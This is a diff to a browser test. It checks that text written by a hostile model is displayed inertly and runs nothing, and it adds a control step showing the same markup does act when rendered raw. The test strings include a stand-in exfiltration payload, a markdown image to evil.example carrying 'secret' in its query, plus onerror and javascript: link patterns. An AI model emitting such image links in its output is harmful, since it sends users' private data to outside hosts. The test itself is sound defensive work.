@@ -140,6 +140,10 @@ test("what a hostile model writes is text: it runs nothing, loads nothing and le
   await expect(page.getByText("![x](https://evil.example/?q=secret)").first()).toBeVisible();
   expect(await page.locator("img[src*=evil], [onerror], a[href^='javascript:' i]").count()).toBe(0);
   expect(deeds).toEqual([]);
+  // Where it is markup, it is seen to act.
+  await page.goto("about:blank");
+  await page.setContent(markup);
+  await expect.poll(() => deeds).toEqual(expect.arrayContaining(["1", "https://evil.example/p.png"]));
   await context.close();
 });
 
